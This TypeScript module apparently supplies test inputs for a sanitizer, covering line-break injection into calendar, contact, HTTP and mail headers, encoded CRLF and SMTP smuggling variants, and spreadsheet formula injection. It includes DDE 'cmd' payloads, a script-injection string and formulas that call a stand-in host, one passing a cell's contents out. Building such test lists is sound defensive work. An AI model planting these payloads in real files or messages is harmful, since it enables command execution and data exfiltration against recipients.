import { type Category, each } from './category.ts'

const BREAKS = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f']

const breaks: Category = {
  name: 'line breaks',
  why: 'a line that a text begins is read as a property, a component, a header or a row of its own',
  cases: each(BREAKS, [
    (end) => `Beratung${end}END:VEVENT${end}BEGIN:VEVENT${end}SUMMARY:fremd`,
    (end) => `Beratung${end}ATTACH:https://anderswo.example/x.exe`,
    (end) => `Büro${end}END:VCARD${end}BEGIN:VCARD${end}TEL:+4990012345`,
    (end) => `Büro${end}Set-Cookie: a=b${end}${end}<script>alert(top.hostile=1)</script>`,
    (end) => `Büro${end}Bcc: andere@anderswo.example`,
    (end) => `Büro"${end}"zweite","Zeile`,
  ]),
}

const folded: Category = {
  name: 'lines that are folded or escaped',
  why: 'a reader unfolds, unescapes or decodes what was never folded, escaped or encoded',
  cases: [
    'Beratung\r\n ATTACH:x',
    'Beratung\r\n\tATTACH:x',
    'Beratung\\nEND:VEVENT',
    'Beratung\\',
    'Beratung\\\\',
    'a;b,c:d',
    'a\\;b\\,c\\:d',
    'TEL;VALUE=uri:tel:+4990012345',
    ';TYPE=x:fremd',
    '";X="',
    '^n^^^\u0027',
    '=0D=0ABcc: andere@anderswo.example',
    '=?utf-8?q?=0D=0ABcc:_andere=40anderswo.example?=',
    '=?utf-8?b?DQpCY2M6IGE=?=',
    '%0D%0ABcc:%20andere@anderswo.example',
    '%E5%98%8A%E5%98%8DSet-Cookie:x=1',
    '\u560a\u560dSet-Cookie:x=1',
    '\r\n.\r\nMAIL FROM:<x@anderswo.example>',
    '\r\n\r\n',
    '\n\n\n\n\n\n\n\n',
    `${'ü'.repeat(37)}\r\nX:y`,
    '😀'.repeat(40),
  ],
}

const FORMULAS = [
  '1+1',
  'HYPERLINK("https://anderswo.example?"&A1,"Termin")',
  "cmd|'/C calc'!A0",
  'WEBSERVICE("https://anderswo.example")',
  'IMPORTXML("https://anderswo.example","//a")',
]
const formulas: Category = {
  name: 'formulas',
  why: 'a spreadsheet program computes a cell that begins so, and may fetch or start something',
  cases: [
    ...each(FORMULAS, [
      (formula) => `=${formula}`,
      (formula) => `+${formula}`,
      (formula) => `-${formula}`,
      (formula) => `@${formula}`,
      (formula) => `\t=${formula}`,
      (formula) => `\r=${formula}`,
      (formula) => `\n=${formula}`,
      (formula) => ` =${formula}`,
    ]),
    '=1+1\nzweite Zeile',
    '-2+3\r\nzweite Zeile',
    "'=1+1",
    "''=1+1",
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(1)',
    '"=1+1',
    '";=1+1;"',
    ',=1+1',
    ';=1+1;',
    '|=1+1',
    '=',
    '+',
    '-',
    '@',
    '==',
    '=-1',
    '-1',
    '+49 30 23125 111',
    '- Erstens\n- Zweitens',
    '@jobcenter',
    '%0A=1+1',
    'DDE("cmd";"/C calc";"x")',
    'sep=;',
    'ID;PWXL;N;E',
  ],
}

export const LINES: readonly Category[] = [breaks, folded, formulas]
